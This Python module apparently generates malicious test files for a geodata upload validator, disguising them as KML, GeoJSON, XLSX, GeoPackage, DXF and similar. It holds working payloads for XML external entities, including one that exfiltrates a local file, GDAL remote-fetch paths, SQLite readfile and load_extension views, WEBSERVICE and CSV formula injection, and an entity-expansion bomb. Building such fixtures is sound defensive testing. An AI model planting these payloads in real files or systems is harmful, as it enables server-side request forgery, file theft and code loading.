"""More files that ask their reader to look elsewhere: pictures of tables and maps.

`VECTOR` maps a name to (innocent extension, function of (address, path of the canary)
that returns the bytes of such a file).
"""

from __future__ import annotations

import io
import json
import sqlite3
import tempfile
import zipfile
from contextlib import closing
from pathlib import Path

import broken_files as make
import ezdxf
import format_files
import openpyxl
import pyogrio

KML = '<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{}</Document></kml>'
POINT = "<Point><coordinates>107,40</coordinates></Point>"


def _vrt(inner, *, root="OGRVRTDataSource"):
    return f"<{root}>{inner}</{root}>".encode()


def _source(source, more=""):
    return (
        f'<OGRVRTLayer name="x"><SrcDataSource>{source}</SrcDataSource>{more}'
        "</OGRVRTLayer>"
    )


def _kml(inner):
    return KML.format(inner).encode()


def _doctype(declared, body="&x;"):
    text = KML.format(f"<Placemark><name>{body}</name>{POINT}</Placemark>")
    return f'<?xml version="1.0"?><!DOCTYPE kml {declared}>{text}'.encode()


def _drawing(build):
    doc = ezdxf.new("R2010")
    build(doc)
    sink = io.StringIO()
    doc.write(sink)
    return sink.getvalue().encode()


def _external_block(path):
    def build(doc):
        doc.add_xref_def(str(path), "ELSEWHERE")
        doc.modelspace().add_blockref("ELSEWHERE", (0, 0))

    return _drawing(build)


def _image(path):
    def build(doc):
        made = doc.add_image_def(filename=str(path), size_in_pixel=(4, 4))
        doc.modelspace().add_image(made, insert=(0, 0), size_in_units=(1, 1))

    return _drawing(build)


def _workbook(cells, replaced=()):
    """A workbook with the cells, and parts of its XML replaced."""
    book = openpyxl.Workbook()
    for row in (["编号", "经度", "纬度"], cells):
        book.active.append(row)
    sink = io.BytesIO()
    book.save(sink)
    target = io.BytesIO()
    with zipfile.ZipFile(sink) as source, zipfile.ZipFile(target, "w") as out:
        for info in source.infolist():
            data = source.read(info)
            for old, new in replaced:
                data = data.replace(old.encode(), new.encode())
            out.writestr(info.filename, data)
    return target.getvalue()


def _geopackage(statement, *, name="z"):
    """A GeoPackage whose schema was written over by hand."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "z.gpkg"
        pyogrio.write_dataframe(make.zones(), path, layer="z")
        with closing(sqlite3.connect(path)) as db:
            db.execute("PRAGMA writable_schema = ON")
            db.execute("DELETE FROM sqlite_master WHERE tbl_name = 'z'")
            db.execute(
                "INSERT INTO sqlite_master VALUES (?, 'z', 'z', 0, ?)",
                (name, statement),
            )
            db.commit()
        return path.read_bytes()


def _parquet(crs):
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "z.parquet"
        make.parquet_with(path, lambda geo: geo["columns"]["geometry"].update(crs=crs))
        return path.read_bytes()


def _flatgeobuf(folder_of):
    with tempfile.TemporaryDirectory() as folder:
        path = format_files.write(Path(folder), "fgb", name="z")
        old = path.read_bytes()
        # same length: every offset in the header stays where it was
        new = f"+init={folder_of}:1"[:30].ljust(30).encode()
        at = old.find(b"China Geodetic Coordinate Syst")
        return old[:at] + new + old[at + 30 :] if at > 0 else old + new


def _boundary(path):
    return (
        "[属性描述]\n格式版本号=1.01\n坐标系=+init="
        f"{path}:1\n几度分带=3\n投影类型=高斯克吕格\n计量单位=米\n带号=36\n"
        "[地块坐标]\n1,1,A,甲,点,J,J,@\nJ1,1,4400000,36500000\n"
    ).encode()


def _gml(attributes, inner=""):
    return (
        '<?xml version="1.0"?><wfs:FeatureCollection '
        'xmlns:wfs="http://www.opengis.net/wfs" xmlns:gml="http://www.opengis.net/gml" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xmlns:xlink="http://www.w3.org/1999/xlink" {attributes}><gml:featureMember>'
        f'<x fid="1"><n>a</n>{inner}</x></gml:featureMember></wfs:FeatureCollection>'
    ).encode()


def _json(**document):
    return json.dumps(document).encode()


def _prefixed(prefix):
    return lambda net, _: _vrt(_source(f"{prefix}{net}/x"))


VRTS = {
    "vrt_in_capitals": (
        ".geojson",
        lambda net, _: _vrt(_source(f"/vsicurl/{net}/x.csv")).upper(),
    ),
    "vrt_by_sql": (
        ".csv",
        lambda _, file: _vrt(
            _source(
                f"CSV:{file}",
                "<SrcSQL dialect='SQLITE'>SELECT readfile('canary') FROM canary"
                "</SrcSQL>",
            )
        ),
    ),
    "vrt_of_a_union": (
        ".kml",
        lambda net, _: _vrt(
            f'<OGRVRTUnionLayer name="u">{_source(f"/vsicurl/{net}/x")}'
            "</OGRVRTUnionLayer>"
        ),
    ),
    "vrt_reprojected": (
        ".gml",
        lambda net, _: _vrt(
            f"<OGRVRTWarpedLayer>{_source(f'/vsicurl/{net}/x')}"
            "<TargetSRS>EPSG:4490</TargetSRS></OGRVRTWarpedLayer>"
        ),
    ),
    "vrt_beside": (
        ".txt",
        lambda *_: _vrt(
            '<OGRVRTLayer name="canary"><SrcDataSource relativeToVRT="1">'
            "../elsewhere/canary.csv</SrcDataSource></OGRVRTLayer>"
        ),
    ),
    "vrt_in_cdata": (
        ".json",
        lambda _, file: _vrt(_source(f"<![CDATA[CSV:{file}]]>")),
    ),
    "vrt_after_a_comment": (
        ".kml",
        lambda _, file: b"<!-- <kml> -->" + _vrt(_source(f"CSV:{file}")),
    ),
    "vrt_in_a_kml": (
        ".kml",
        lambda _, file: _kml(_vrt(_source(f"CSV:{file}")).decode()),
    ),
    "vrt_in_utf16_backwards": (
        ".gml",
        lambda net, _: (
            b"\xfe\xff"
            + _vrt(_source(f"/vsicurl/{net}/x")).decode().encode("utf-16-be")
        ),
    ),
    **{
        f"vrt_by_{name}": (".geojson", _prefixed(prefix))
        for name, prefix in {
            "s3": "/vsis3/",
            "zip_on_the_net": "/vsizip//vsicurl/",
            "stream": "/vsicurl_streaming/",
            "wfs": "WFS:",
            "oapif": "OAPIF:",
            "csw": "CSW:",
            "elastic": "ES:",
            "gmlas": "GMLAS:",
            "plscenes": "PLScenes:base_url=",
        }.items()
    },
}
XMLS = {
    "xinclude": (
        ".kml",
        lambda _, file: _kml(
            '<Placemark><name><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
            f'href="{file.as_uri()}" parse="text"/></name>{POINT}</Placemark>'
        ),
    ),
    "stylesheet": (
        ".kml",
        lambda net, _: (
            f'<?xml-stylesheet href="{net}/x.xsl" type="text/xsl"?>'.encode()
            + _kml(f"<Placemark>{POINT}</Placemark>")
        ),
    ),
    "entity_by_parameter": (
        ".kml",
        lambda net, _: _doctype(f'[<!ENTITY % p SYSTEM "{net}/p"> %p;]'),
    ),
    "entity_that_sends_a_file": (
        ".kml",
        lambda net, file: _doctype(
            f'[<!ENTITY % f SYSTEM "{file.as_uri()}"><!ENTITY % d SYSTEM "{net}/d">%d;]'
        ),
    ),
    "public_dtd": (".gml", lambda net, _: _doctype(f'PUBLIC "-//x//y" "{net}/x.dtd"')),
    "entity_in_an_attribute": (
        ".kml",
        lambda _, file: _doctype(
            f'[<!ATTLIST kml a CDATA "x"><!ENTITY x SYSTEM "{file}">]'
        ),
    ),
    "doctype_in_capitals_apart": (
        ".gml",
        lambda net, _: _doctype(f'\n[\n<!ENTITY x SYSTEM "{net}/x">]'),
    ),
    "quadratic_entity": (
        ".kml",
        lambda *_: _doctype(f'[<!ENTITY x "{"a" * 50_000}">]', "&x;" * 5_000),
    ),
    "kml_style_icon": (
        ".kml",
        lambda net, _: _kml(
            f"<Style><IconStyle><Icon><href>{net}/i.png</href></Icon></IconStyle>"
            f"</Style><Placemark>{POINT}</Placemark>"
        ),
    ),
    "kml_style_url": (
        ".kml",
        lambda net, _: _kml(
            f"<Placemark><styleUrl>{net}/s.kml#a</styleUrl>{POINT}</Placemark>"
        ),
    ),
    "kml_ground_overlay": (
        ".kml",
        lambda _, file: _kml(
            f"<GroundOverlay><Icon><href>{file}</href></Icon></GroundOverlay>"
            f"<Placemark>{POINT}</Placemark>"
        ),
    ),
    "kml_link_to_a_file": (
        ".kml",
        lambda _, file: _kml(
            f"<NetworkLink><Link><href>{file.as_uri()}</href></Link></NetworkLink>"
            f"<Placemark>{POINT}</Placemark>"
        ),
    ),
    "kml_schema_url": (
        ".kml",
        lambda net, _: _kml(
            f'<Placemark><ExtendedData><SchemaData schemaUrl="{net}/s"/>'
            f"</ExtendedData>{POINT}</Placemark>"
        ),
    ),
    "kml_picture_in_text": (
        ".kml",
        lambda net, _: _kml(
            f'<Placemark><description><![CDATA[<img src="{net}/a.png"/>]]>'
            f"</description>{POINT}</Placemark>"
        ),
    ),
    "gml_schema_in_a_file": (
        ".gml",
        lambda _, file: _gml(f'xsi:noNamespaceSchemaLocation="{file}"'),
    ),
    "gml_link_to_a_file": (
        ".gml",
        lambda _, file: _gml("", f'<p xlink:href="{file.as_uri()}#x"/>'),
    ),
    "gml_srs_on_the_net": (
        ".gml",
        lambda net, _: _gml(
            "",
            f'<g><gml:Point srsName="{net}/crs"><gml:coordinates>107,40'
            "</gml:coordinates></gml:Point></g>",
        ),
    ),
    "gml_srs_of_a_file": (
        ".gml",
        lambda _, file: _gml(
            "",
            f'<g><gml:Point srsName="+init={file}:1"><gml:coordinates>107,40'
            "</gml:coordinates></gml:Point></g>",
        ),
    ),
    "wms_capabilities": (
        ".gml",
        lambda net, _: (
            f'<WMT_MS_Capabilities><OnlineResource href="{net}"/></WMT_MS_Capabilities>'
        ).encode(),
    ),
    "csw_answer": (
        ".gml",
        lambda net, _: (
            f"<OGRCSWDataSource><URL>{net}</URL></OGRCSWDataSource>".encode()
        ),
    ),
}
OTHERS = {
    "pipeline_with_an_escape": (
        ".geojson",
        lambda net, _: (
            rb'{"type": "\u0067dal_streamed_alg", "command_line": '
            + f'"gdal vector pipeline ! read /vsicurl/{net}/x"}}'.encode()
        ),
    ),
    "pipeline_that_writes": (
        ".json",
        lambda _, file: _json(
            type="gdal_streamed_alg",
            command_line=f"gdal vector pipeline ! read CSV:{file} ! write {file}.gpkg",
        ),
    ),
    "pipeline_in_capitals": (
        ".json",
        lambda net, _: _json(
            TYPE="GDAL_STREAMED_ALG", COMMAND_LINE=f"GDAL VECTOR READ {net}/x"
        ),
    ),
    "stac_item": (
        ".json",
        lambda net, _: _json(
            type="Feature",
            stac_version="1.0.0",
            geometry=make.GOOD,
            properties={},
            assets={"a": {"href": f"{net}/a.tif", "type": "image/tiff"}},
        ),
    ),
    "stac_catalogue": (
        ".json",
        lambda net, _: _json(
            type="FeatureCollection",
            stac_version="1.0.0",
            features=[],
            links=[{"rel": "next", "href": f"{net}/2"}],
        ),
    ),
    "esri_pages": (
        ".json",
        lambda net, _: _json(
            geometryType="esriGeometryPoint",
            exceededTransferLimit=True,
            features=[],
            url=f"{net}/FeatureServer/0",
        ),
    ),
    "geojson_next_page": (
        ".geojson",
        lambda net, _: _json(
            type="FeatureCollection",
            features=[{"type": "Feature", "properties": {}, "geometry": make.GOOD}],
            links=[{"rel": "next", "href": f"{net}/2"}],
        ),
    ),
    "geojson_crs_grid_in_wkt": (
        ".geojson",
        lambda _, file: _json(
            type="FeatureCollection",
            features=[{"type": "Feature", "properties": {}, "geometry": make.GOOD}],
            crs={
                "type": "name",
                "properties": {
                    "name": 'GEOGCS["x",DATUM["d",SPHEROID["s",6378137,298]],'
                    'PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433],'
                    f'EXTENSION["PROJ4","+proj=longlat +nadgrids={file}"]]'
                },
            },
        ),
    ),
    "parquet_crs_of_a_file": (
        ".parquet",
        lambda _, file: _parquet(
            {"type": "GeographicCRS", "name": f"+init={file}:1", "datum": {}}
        ),
    ),
    "flatgeobuf_crs_of_a_file": (".fgb", lambda _, file: _flatgeobuf(file)),
    "boundary_txt_crs_of_a_file": (".txt", lambda _, file: _boundary(file)),
    "dxf_external_drawing": (".dxf", lambda _, file: _external_block(file)),
    "dxf_picture": (".dxf", lambda _, file: _image(file)),
    "xlsx_formula_on_a_file": (
        ".xlsx",
        lambda _, file: _workbook([f"='[{file}]canary'!A2", 107, 40]),
    ),
    "xlsx_webservice": (
        ".xlsx",
        lambda net, _: _workbook([f'=WEBSERVICE("{net}/x")', 107, 40]),
    ),
    "xlsx_entity": (
        ".xlsx",
        lambda _, file: _workbook(
            ["&x;", 107, 40],
            [
                (
                    "<worksheet ",
                    f'<!DOCTYPE w [<!ENTITY x SYSTEM "{file.as_uri()}">]><worksheet ',
                ),
                ("&amp;x;", "&x;"),
            ],
        ),
    ),
    "xlsx_external_part": (
        ".xlsx",
        lambda net, _: _workbook(
            ["A", 107, 40],
            [
                (
                    'Target="/xl/worksheets/sheet1.xml"',
                    f'TargetMode="External" Target="{net}/sheet1.xml"',
                )
            ],
        ),
    ),
    "csv_formula": (
        ".csv",
        lambda net, _: f'编号,经度,纬度\n"=WEBSERVICE(""{net}/x"")",107,40\n'.encode(),
    ),
    "table_over_a_csv": (
        ".gpkg",
        lambda _, file: _geopackage(
            f"CREATE VIRTUAL TABLE z USING csv(filename='{file}')", name="table"
        ),
    ),
    "table_over_a_text": (
        ".gpkg",
        lambda _, file: _geopackage(
            f"CREATE VIRTUAL TABLE z USING VirtualText('{file}', 'UTF-8', 1)",
            name="table",
        ),
    ),
    "view_that_reads_a_file": (
        ".gpkg",
        lambda _, file: _geopackage(
            f"CREATE VIEW z AS SELECT 1 AS fid, readfile('{file}') AS a", name="view"
        ),
    ),
    "view_that_loads_code": (
        ".gpkg",
        lambda _, file: _geopackage(
            f"CREATE VIEW z AS SELECT 1 AS fid, load_extension('{file}') AS a",
            name="view",
        ),
    ),
    "view_by_gdal": (
        ".gpkg",
        lambda net, _: _geopackage(
            f"CREATE VIEW z AS SELECT 1 AS fid, ogr_geocode('{net}') AS a", name="view"
        ),
    ),
}
VECTOR = {**VRTS, **XMLS, **OTHERS}
